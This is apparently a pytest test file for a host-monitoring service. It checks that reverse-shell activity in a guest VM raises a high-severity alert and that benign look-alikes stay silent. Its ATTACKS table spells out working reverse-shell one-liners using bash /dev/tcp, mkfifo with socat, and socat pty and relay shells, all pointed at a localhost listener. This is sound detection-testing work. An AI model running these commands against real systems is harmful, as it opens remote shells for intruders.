"""Alerts of section 10 on real attacks in the guest, and silence on the
look-alikes."""
import time

import pytest

from conftest import Service

SLEEP = "500ms"


@pytest.fixture(scope="module")
def svc(guest, tmp_path_factory):
    s = Service(tmp_path_factory.mktemp("alerts"), guest, sleep=SLEEP)
    yield s
    s.stop()


def alerts(svc, name, since):
    svc.poll()
    return [m for m in svc.messages[since:] if m["activity_data"]["name"] == name]


def run_case(guest, svc, setup, attack, cleanup, seconds=4):
    """Returns the Reverse Shell alerts raised while `attack` runs.  Each
    command runs in its own session (setsid): cleanup kills the groups."""
    groups = []
    if setup:
        groups.append(guest.spawn(setup))
        time.sleep(1)
    svc.poll()
    since = len(svc.messages)
    groups.append(guest.spawn(attack))
    time.sleep(seconds)
    found = alerts(svc, "Reverse Shell Detected", since)
    guest.run("; ".join(f"kill -9 -{g}" for g in groups) + "; " + cleanup)
    time.sleep(1)
    return found


LISTEN = "sleep 1000 | socat TCP-LISTEN:{port},reuseaddr -"

ATTACKS = {
    "bash /dev/tcp": (LISTEN.format(port=4444),
                      "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", "bash"),
    "mkfifo sh | socat": (LISTEN.format(port=4445),
                          "rm -f /tmp/rsp; mkfifo /tmp/rsp; "
                          "sh -i </tmp/rsp 2>&1 | socat - TCP:127.0.0.1:4445 >/tmp/rsp", "sh"),
    "unix relay": (LISTEN.format(port=4446) + " & socat UNIX-LISTEN:/tmp/rs.sock EXEC:'sh -i',stderr",
                   "sleep 1; socat TCP:127.0.0.1:4446 UNIX-CONNECT:/tmp/rs.sock", "sh"),
    "pty shell": (LISTEN.format(port=4447),
                  "socat exec:'bash -li',pty,stderr,setsid tcp:127.0.0.1:4447", "bash"),
}

CLEANUP = "rm -f /tmp/rsp /tmp/rs.sock; true"


@pytest.mark.parametrize("case", list(ATTACKS))
def test_reverse_shell(guest, svc, case):
    setup, attack, shell = ATTACKS[case]
    found = run_case(guest, svc, setup, attack, CLEANUP)
    assert len(found) == 1, f"{case}: {len(found)} Reverse Shell Detected alerts"
    m = found[0]
    assert m["message_type"] == "ALERT" and m["severity"] == "HIGH"
    chain = m["activity_data"]["process_list"]
    assert chain[0]["process_details"]["process_name"] == shell
    assert "file_descriptor_list" in chain[0]["process_details"]
    nets = [n for p in chain for n in p["process_details"]["network_connection_list"]]
    assert any(n["network_connection_details"]["destination_port"] in (4444, 4445, 4446, 4447)
               for n in nets), chain
    print(f"{case}: chain of {len(chain)} processes")


LOOKALIKES = {
    "shell piping to a local program": (None, "sh -c 'sleep 100 | cat >/dev/null'"),
    "socat relay TCP to a file": (LISTEN.format(port=4448),
                                  "socat TCP:127.0.0.1:4448 OPEN:/tmp/relay.out,creat"),
    "interactive bash on the console": (None, "exec bash -i </dev/ttyS0 >/dev/ttyS0 2>&1"),
    "daemon serving its children": ("socat TCP-LISTEN:4449,reuseaddr,fork EXEC:'sh -c cat'",
                                    "sleep 100 | socat - TCP:127.0.0.1:4449"),
}


@pytest.mark.parametrize("case", list(LOOKALIKES))
def test_reverse_shell_lookalikes(guest, svc, case):
    setup, action = LOOKALIKES[case]
    found = run_case(guest, svc, setup, action, CLEANUP + "; rm -f /tmp/relay.out")
    assert not found, f"{case}: raised {len(found)} Reverse Shell Detected"
